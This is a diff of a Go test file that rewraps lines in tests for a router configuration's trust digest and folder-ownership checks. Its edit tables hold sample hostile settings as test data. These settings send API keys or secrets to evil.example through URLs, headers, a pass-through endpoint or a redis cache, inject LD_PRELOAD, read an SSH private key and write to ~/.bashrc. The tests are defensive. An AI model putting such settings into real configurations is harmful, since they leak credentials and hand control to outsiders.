@@ -70,25 +70,36 @@ func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *te
 		t.Fatalf("in another folder it is %s, not %s", got, want)
 	}
 	for _, edit := range [][2]string{
-		{"runtime: embedded", "runtime: litellm"}, {"--one", "--other"}, {"cwd: ..", "cwd: /"}, {"NAME: value", "NAME: other"}, {"NAME: value", "LD_PRELOAD: x.so"},
-		{"--two", "--other"}, {"/etc/mine.key", "/etc/other.key"}, {"mymodule.hook", "other.hook"}, {"https://example.com/v1", "https://evil.example/v1"},
-		{"os.environ/MINE", "os.environ/OTHER"}, {"[signin]", "[other]"}, {"example.com/token", "evil.example/token"}, {"~/elsewhere.json", "~/.ssh/id_ed25519"},
-		{"state_file: ../.router/runtime/s.json", "state_file: ~/.bashrc"}, {"log_file: ../.router/runtime/e.log", "log_file: /tmp/e.log"},
-		{"active_config: ../.router/runtime/a.yaml", "active_config: ../README.md"}, {"runtime_dir: ../.router/runtime", "runtime_dir: ~/public"},
-		{"num_retries: 2}", "num_retries: 2, success_callback: [x.y]}"}, {"http://127.0.0.1:8317/v1", "http://10.0.0.1:8317/v1"},
+		{"runtime: embedded", "runtime: litellm"}, {"--one", "--other"}, {"cwd: ..", "cwd: /"},
+		{"NAME: value", "NAME: other"}, {"NAME: value", "LD_PRELOAD: x.so"},
+		{"--two", "--other"}, {"/etc/mine.key", "/etc/other.key"}, {"mymodule.hook", "other.hook"},
+		{"https://example.com/v1", "https://evil.example/v1"},
+		{"os.environ/MINE", "os.environ/OTHER"}, {"[signin]", "[other]"}, {"example.com/token", "evil.example/token"},
+		{"~/elsewhere.json", "~/.ssh/id_ed25519"},
+		{"state_file: ../.router/runtime/s.json", "state_file: ~/.bashrc"},
+		{"log_file: ../.router/runtime/e.log", "log_file: /tmp/e.log"},
+		{"active_config: ../.router/runtime/a.yaml", "active_config: ../README.md"},
+		{"runtime_dir: ../.router/runtime", "runtime_dir: ~/public"},
+		{"num_retries: 2}", "num_retries: 2, success_callback: [x.y]}"},
+		{"http://127.0.0.1:8317/v1", "http://10.0.0.1:8317/v1"},
 		// Keys that go elsewhere in a header, in the address itself, or with an address in parts.
-		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_base: "https://evil.example/v1", extra_headers: {X: os.environ/MINE}`},
-		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_base: "https://evil.example/${MINE}"`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: openai/b, api_base: "https://evil.example/v1", extra_headers: {X: os.environ/MINE}`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: openai/b, api_base: "https://evil.example/${MINE}"`},
 		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: evil.example, password: os.environ/MINE},"},
-		{"  litellm_settings: {num_retries: 1", "  general_settings: {pass_through_endpoints: [{path: /x, target: \"https://evil.example\", headers: {Authorization: os.environ/MINE}}]}\n  litellm_settings: {num_retries: 1"},
+		{"  litellm_settings: {num_retries: 1", "  general_settings: {pass_through_endpoints: [{path: /x, target: " +
+			"\"https://evil.example\", headers: {Authorization: os.environ/MINE}}]}\n  litellm_settings: {num_retries: 1"},
 		{"mine: {file: /etc/mine.key}", "mine: {env: GITHUB_TOKEN}"},
 		// Keys without an address: they go to the provider, or wherever the setting's program sends them.
 		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, api_key_ref: mine`},
-		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: openai/b, extra_headers: {X: os.environ/MINE}`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: openai/b, extra_headers: {X: os.environ/MINE}`},
 		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, password: os.environ/MINE},"},
 		{"num_retries: 1,", "num_retries: 1, some_tokens: [os.environ/MINE],"},
 		// What other machines reach.
-		{"port: 4000", "port: 4000, host: 0.0.0.0"}, {"port: 4000", "port: 4000, host: \"::\""}, {"port: 4000", "port: 4000, host: 192.0.2.7"},
+		{"port: 4000", "port: 4000, host: 0.0.0.0"}, {"port: 4000", "port: 4000, host: \"::\""},
+		{"port: 4000", "port: 4000, host: 192.0.2.7"},
 	} {
 		if !strings.Contains(text, edit[0]) {
 			t.Fatalf("the text has no %q", edit[0])
@@ -98,13 +109,19 @@ func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *te
 		}
 	}
 	for _, edit := range [][2]string{
-		{"port: 4000", "port: 4001"}, {"num_retries: 1", "num_retries: 5"}, {"model_name: b", "model_name: c"}, {"config_version: 2", "config_version: 2\n# a comment"},
-		{"inside.key", "other.key"}, {"num_retries: 2}}", "num_retries: 2}}, q: {router_settings: {routing_strategy: simple-shuffle}}"},
-		{"model: openai/b", "model: openai/c"}, {"api_key_ref: mine}", "api_key_ref: mine, extra_headers: {X: os.environ/MINE}}"},
+		{"port: 4000", "port: 4001"}, {"num_retries: 1", "num_retries: 5"}, {"model_name: b", "model_name: c"},
+		{"config_version: 2", "config_version: 2\n# a comment"},
+		{"inside.key", "other.key"}, {"num_retries: 2}}",
+			"num_retries: 2}}, q: {router_settings: {routing_strategy: simple-shuffle}}"},
+		{"model: openai/b", "model: openai/c"}, {"api_key_ref: mine}",
+			"api_key_ref: mine, extra_headers: {X: os.environ/MINE}}"},
 		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, host: localhost, password: os.environ/MINE},"},
-		{"port: 4000", "port: 4000, host: 127.0.0.2"}, {"port: 4000", "port: 4000, host: localhost"}, {"port: 4000", "port: 4000, host: \"::1\""},
-		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key: os.environ/MINE}\n  litellm_settings: {num_retries: 1"},
-		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key_ref: mine}\n  litellm_settings: {num_retries: 1"},
+		{"port: 4000", "port: 4000, host: 127.0.0.2"}, {"port: 4000", "port: 4000, host: localhost"},
+		{"port: 4000", "port: 4000, host: \"::1\""},
+		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key: os.environ/MINE}\n  litellm_settings: " +
+			"{num_retries: 1"},
+		{"  litellm_settings: {num_retries: 1", "  general_settings: {master_key_ref: mine}\n  litellm_settings: " +
+			"{num_retries: 1"},
 	} {
 		if got := digest(t, strings.Replace(text, edit[0], edit[1], 1)); got != want {
 			t.Errorf("%q for %q asks again", edit[1], edit[0])
@@ -157,7 +174,8 @@ func TestTrustIsRecordedByFileAndFolderAndTakenBack(t *testing.T) {
 	examine := func(c *config.Config, given string) trust.Verdict {
 		return trust.Examine(trust.Subject{Config: c, Given: given, Named: true, Getenv: getenv})
 	}
-	if v := examine(cfg, ""); v.Trusted || v.Known || fault.From(v.Fault()).Code != "not-trusted" || fault.From(v.Fault()).Exit != fault.ExitUsage {
+	if v := examine(cfg, ""); v.Trusted || v.Known || fault.From(v.Fault()).Code != "not-trusted" ||
+		fault.From(v.Fault()).Exit != fault.ExitUsage {
 		t.Fatalf("%+v", v)
 	}
 	if v := examine(cfg, examine(cfg, "").Digest); !v.Trusted {
@@ -213,7 +231,8 @@ func TestAConfigurationThatOthersCanReplaceIsNotObeyedUnlessNamedByHand(t *testi
 		if err := open(dir); err != nil {
 			t.Fatal(err)
 		}
-		if v := trust.Examine(trust.Subject{Config: cfg, Getenv: home}); v.Trusted || !v.Foreign || fault.From(v.Fault()).Code != "not-yours" {
+		if v := trust.Examine(trust.Subject{Config: cfg, Getenv: home}); v.Trusted || !v.Foreign ||
+			fault.From(v.Fault()).Code != "not-yours" {
 			t.Errorf("%s can be written by others: %+v", name, v)
 		}
 		if v := trust.Examine(trust.Subject{Config: cfg, Named: true, Getenv: home}); !v.Trusted {
